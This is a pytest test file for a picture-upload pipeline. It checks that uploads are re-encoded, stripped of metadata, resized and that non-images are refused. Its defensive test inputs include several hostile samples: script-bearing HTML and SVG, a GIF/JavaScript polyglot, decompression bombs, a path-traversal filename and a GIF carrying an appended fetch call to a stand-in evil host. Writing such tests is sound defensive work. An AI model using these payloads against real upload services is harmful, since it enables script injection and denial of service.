"""Pictures: what is stored is drawn anew; nothing of the file remains; what is no picture is refused."""

import io
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from weiting.core.errors import Invalid
from weiting.media.limits import Kind
from weiting.media.pipeline import Prepared
from weiting.media.tests import make

Take = Callable[..., Prepared]
Files = Callable[[], list[Path]]


def test_no_stored_file_keeps_place_camera_or_comment(take: Take, files: Files) -> None:
    sent = make.photo_with_gps(2000, 1500)
    assert b"SerialNumber" in sent
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(0x8825)
    take(sent)
    assert len(files()) == 5
    for path in files():
        content = path.read_bytes()
        for secret in (
            b"Secret",
            b"Serial",
            b"GPS",
            b"Exif",
            b"EXIF",
            b"xmp",
            b"XMP",
            b"ICCP",
        ):
            assert secret not in content, (path.name, secret)
        with Image.open(path) as image:
            assert not image.getexif()
            assert not {"exif", "xmp", "comment", "icc_profile", "photoshop"} & set(image.info)


def test_photograph_stands_upright(take: Take) -> None:
    prepared = take(make.photo_with_gps(900, 600, orientation=6))
    assert (prepared.width, prepared.height) == (600, 900)


def test_large_photograph_is_reduced_and_still_upright(take: Take) -> None:
    prepared = take(make.photo_with_gps(6000, 4500, orientation=6))
    assert (prepared.width, prepared.height) == (1920, 2560)
    png = take(make.photo(6000, 4500, fmt="PNG", exif=_turned()))
    assert (png.width, png.height) == (1920, 2560)


def _turned() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6
    return exif


def test_renditions_are_named_measured_and_typed(take: Take, stored: Path) -> None:
    prepared = take(make.photo(3000, 2000), name="../../etc/通知.jpg")
    assert prepared.kind == Kind.PICTURE
    assert prepared.original_name == "通知.jpg"
    shapes = {each["name"]: (each["width"], each["mime"]) for each in prepared.renditions}
    assert shapes == {
        "master": (2560, "image/jpeg"),
        "w320": (320, "image/webp"),
        "w640": (640, "image/webp"),
        "w1280": (1280, "image/webp"),
        "jpeg640": (640, "image/jpeg"),
    }
    for each in prepared.renditions:
        path = stored / each["path"]
        assert path.stat().st_size == each["bytes"]
        assert path.stat().st_mode & 0o777 == 0o644
        assert each["path"].startswith(
            f"{prepared.sha256[:2]}/{prepared.sha256[2:4]}/{prepared.sha256[:32]}-"
        )
    assert prepared.colour.startswith("#")
    assert len(prepared.colour) == 7


def test_small_picture_is_not_blown_up(take: Take) -> None:
    prepared = take(make.photo(400, 300))
    assert [(each["name"], each["width"]) for each in prepared.renditions] == [
        ("master", 400),
        ("w320", 320),
        ("w640", 400),
        ("jpeg640", 400),
    ]


def test_long_picture_stays_readable(take: Take) -> None:
    prepared = take(make.photo(1080, 9000, fmt="PNG"))
    assert (prepared.width, prepared.height) == (1080, 9000)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "GIF", "AVIF"])
def test_every_promised_format_is_taken(take: Take, fmt: str) -> None:
    assert take(make.photo(200, 100, fmt=fmt)).width == 200


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "CMYK", "I;16"])
def test_every_colour_mode_is_drawn(take: Take, mode: str) -> None:
    image = Image.new("L", (80, 60), 200)
    image = Image.new("I;16", (80, 60), 51200) if mode == "I;16" else image.convert("RGB").convert(mode)
    out = io.BytesIO()
    image.save(out, "TIFF" if mode == "none" else "JPEG" if mode == "CMYK" else "PNG")
    prepared = take(out.getvalue())
    assert abs(int(prepared.colour[1:3], 16) - 200) < 60


def test_transparency_survives_and_falls_back_to_white(take: Take, stored: Path) -> None:
    out = io.BytesIO()
    Image.new("RGBA", (100, 100), (255, 0, 0, 0)).save(out, "PNG")
    prepared = take(out.getvalue())
    assert prepared.mime == "image/webp"
    with Image.open(stored / prepared.renditions[0]["path"]) as master:
        assert master.mode == "RGBA"
    with Image.open(stored / prepared.renditions[-1]["path"]) as fallback:
        assert fallback.getpixel((50, 50)) == (255, 255, 255)


def test_moving_picture_becomes_still(take: Take, stored: Path) -> None:
    frames = [Image.new("RGB", (60, 60), colour) for colour in ("red", "lime", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    prepared = take(out.getvalue())
    assert prepared.colour == "#ff0000"
    for each in prepared.renditions:
        with Image.open(stored / each["path"]) as image:
            assert getattr(image, "n_frames", 1) == 1


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"<!DOCTYPE html><script>alert(1)</script>", "unknown_type"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
            "unknown_type",
        ),
        (b"%PDF-1.7 \n", "unknown_type"),
        (b"MZ\x90\0" + bytes(100), "unknown_type"),
        (b"", "unknown_type"),
        (b"\0\0\0\x18ftypheic" + bytes(100), "unknown_type"),
        (b"\xff\xd8\xff\xe0 not a picture at all", "broken_picture"),
        (b"GIF89a/*" + bytes(5) + b"*/=1;alert(1)", "broken_picture"),
        (make.photo()[:2000], "broken_picture"),
        (make.photo(fmt="PNG")[:700], "broken_picture"),
        (make.png_bomb(), "too_many_pixels"),
        (make.png_bomb(8000, 8000), "too_many_pixels"),
    ],
    ids=[
        "html",
        "svg",
        "pdf",
        "exe",
        "empty",
        "heic",
        "nojpeg",
        "gifjs",
        "cutjpeg",
        "cutpng",
        "bomb",
        "big",
    ],
)
def test_what_is_no_picture_is_refused_whole(take: Take, files: Files, content: bytes, code: str) -> None:
    with pytest.raises(Invalid) as refused:
        take(content, name="picture.jpg")
    assert refused.value.code == code
    assert str(refused.value.message).strip()
    assert files() == []


def test_script_hidden_in_a_true_gif_does_not_survive(take: Take, files: Files) -> None:
    take(make.photo(50, 50, fmt="GIF") + b"*/;fetch('//evil.example');//")
    assert not any(b"evil" in path.read_bytes() for path in files())


def test_same_picture_is_stored_once(take: Take, files: Files) -> None:
    first = take(make.photo())
    before = {path: path.stat().st_ino for path in files()}
    assert take(make.photo(), name="other.jpg").sha256 == first.sha256
    assert {path: path.stat().st_ino for path in files()} == before
